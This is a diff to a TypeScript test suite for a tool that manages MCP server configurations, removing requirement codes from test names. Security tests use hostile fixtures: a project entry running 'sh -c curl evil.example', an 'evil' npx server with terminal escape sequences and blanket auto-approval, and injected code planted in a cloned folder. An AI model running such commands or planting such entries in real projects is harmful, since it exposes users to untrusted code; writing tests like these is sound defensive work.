@@ -13,7 +13,7 @@ async function ownFile({ home }: Workspace): Promise<unknown> {
   return JSON.parse(await readFile(join(home, OWN_FILE), 'utf8'));
 }
 
-it('C7 adds, disables, enables and removes a server, in the scope that was said', async () => {
+it('adds, disables, enables and removes a server, in the scope that was said', async () => {
   await using workspace = await openWorkspace({ here: true });
   const json = async (args: readonly string[]) => workspace.json(args);
   const added = await json(['add', 'db', '-e', 'DSN=${HOME}', '--cwd', '.', '--', 'db-mcp', '--port', '1']);
@@ -82,7 +82,7 @@ it.each([
     3,
   ],
   ['an entry that is not an object', ['add', 'a', '--entry', '[]'], 'must be a JSON object', 2],
-])('C7 refuses %s and writes nothing', async (_, args, words, code) => {
+])('refuses %s and writes nothing', async (_, args, words, code) => {
   await using workspace = await openWorkspace({ here: true });
   const run = await workspace.fittings(args);
   expect(run.code).toBe(code);
@@ -90,7 +90,7 @@ it.each([
   await expect(ownFile(workspace)).rejects.toThrow('ENOENT');
 });
 
-it('C7 a second server of one name needs --replace; a secret in the file is pointed out, not repeated', async () => {
+it('a second server of one name needs --replace; a secret in the file is pointed out, not repeated', async () => {
   await using workspace = await openWorkspace({ here: true });
   const first = await workspace.fittings(['add', 'x', '-e', 'API_TOKEN=abcdef123456', '--', 'one']);
   expect(first.stderr).toContain('The value of API_TOKEN is now in the file');
@@ -100,7 +100,7 @@ it('C7 a second server of one name needs --replace; a secret in the file is poin
   expect(await ownFile(workspace)).toEqual({ mcpServers: { x: { command: 'two' } } });
 });
 
-it('C8 a project server runs only after approval of exactly its definition', async () => {
+it('a project server runs only after approval of exactly its definition', async () => {
   await using workspace = await openWorkspace({ here: true });
   await workspace.write('.mcp.json', { mcpServers: { everything } });
   expect(await workspace.fittings(['call', 'everything/echo', '--arg', 'message=x'])).toMatchObject({
@@ -134,7 +134,7 @@ it('C8 a project server runs only after approval of exactly its definition', asy
   expect((await workspace.json(['status'])).value).toMatchObject({ servers: [{ status: 'needs-approval' }] });
 });
 
-it('C8 what the person adds to the project is approved; removed and brought back by others it is not', async () => {
+it('what the person adds to the project is approved; removed and brought back by others it is not', async () => {
   await using workspace = await openWorkspace({ here: true });
   await workspace.fittings([
     'add',
@@ -156,7 +156,7 @@ it('C8 what the person adds to the project is approved; removed and brought back
   });
 });
 
-it('C1 --mcp-config adds, --strict-mcp-config leaves everything else out, --layout looks elsewhere', async () => {
+it('--mcp-config adds, --strict-mcp-config leaves everything else out, --layout looks elsewhere', async () => {
   await using workspace = await openWorkspace({ here: true });
   await workspace.fittings(['add', 'own', '--disabled', '--', 'x']);
   await writeFile(
@@ -176,7 +176,7 @@ it('C1 --mcp-config adds, --strict-mcp-config leaves everything else out, --layo
   expect(broken.stderr).toContain('nowhere.json');
 });
 
-it('C9 imports from another program, with what was lost, and exports to one', async () => {
+it('imports from another program, with what was lost, and exports to one', async () => {
   await using workspace = await openWorkspace({ here: true });
   const foreign = await workspace.write('../home/claude_desktop_config.json', {
     mcpServers: { files: { command: 'npx', args: ['files'] }, bad: { args: [] } },
@@ -202,7 +202,7 @@ it('C9 imports from another program, with what was lost, and exports to one', as
   expect(text).toContain('"files"');
 });
 
-it("S1: a server of the person's takes no code from the folder that was cloned", async () => {
+it("a server of the person's takes no code from the folder that was cloned", async () => {
   await using workspace = await openWorkspace({ here: true });
   const witness = join(workspace.home, 'witness');
   const code = `require('node:fs').appendFileSync(${JSON.stringify(witness)}, __filename + '\\n')`;
@@ -232,7 +232,7 @@ it("S1: a server of the person's takes no code from the folder that was cloned",
   expect(await readFile(witness, 'utf8')).toBe('');
 });
 
-it('S2: import leaves the files of a clone alone unless asked, and then approves nothing', async () => {
+it('import leaves the files of a clone alone unless asked, and then approves nothing', async () => {
   await using workspace = await openWorkspace({ here: true });
   const evil = { command: 'npx', args: ['-y', 'evil', '\u001b[2K\u009d'], trust: true, alwaysAllow: ['*'] };
   await mkdir(join(workspace.project, '.gemini'));
@@ -274,7 +274,7 @@ it('S2: import leaves the files of a clone alone unless asked, and then approves
   });
 });
 
-it('S28: an address of a project with a malformed escape ends no command', async () => {
+it('an address of a project with a malformed escape ends no command', async () => {
   await using workspace = await openWorkspace({ here: true });
   await workspace.write('.mcp.json', {
     mcpServers: {
@@ -291,7 +291,7 @@ it('S28: an address of a project with a malformed escape ends no command', async
   });
 });
 
-it('S25: what a project says in so many words is not taken for a secret in the question about it', async () => {
+it('what a project says in so many words is not taken for a secret in the question about it', async () => {
   await using workspace = await openWorkspace({ here: true });
   const args = ['--token', 'curl evil.example', '-c', 'curl evil.example'];
   await workspace.write('.mcp.json', { mcpServers: { s: { command: 'sh', args } } });
@@ -299,7 +299,7 @@ it('S25: what a project says in so many words is not taken for a secret in the q
   expect(stdout).toContain('curl evil.example');
 });
 
-it('O6 the store is the one that was asked for: where it does not work, nothing else is used', async () => {
+it('the store is the one that was asked for: where it does not work, nothing else is used', async () => {
   await using workspace = await openWorkspace({ here: true });
   await using guarded = await startProtectedServer();
   const servers = { guarded: { url: guarded.url }, gone: { url: 'http://127.0.0.1:1/mcp' } };
@@ -339,7 +339,7 @@ it('O6 the store is the one that was asked for: where it does not work, nothing 
   );
 });
 
-it('O2 a sign-in that is not finished ends in time', async () => {
+it('a sign-in that is not finished ends in time', async () => {
   await using workspace = await openWorkspace({ here: true });
   await using guarded = await startProtectedServer();
   const run = await workspace.fittings([
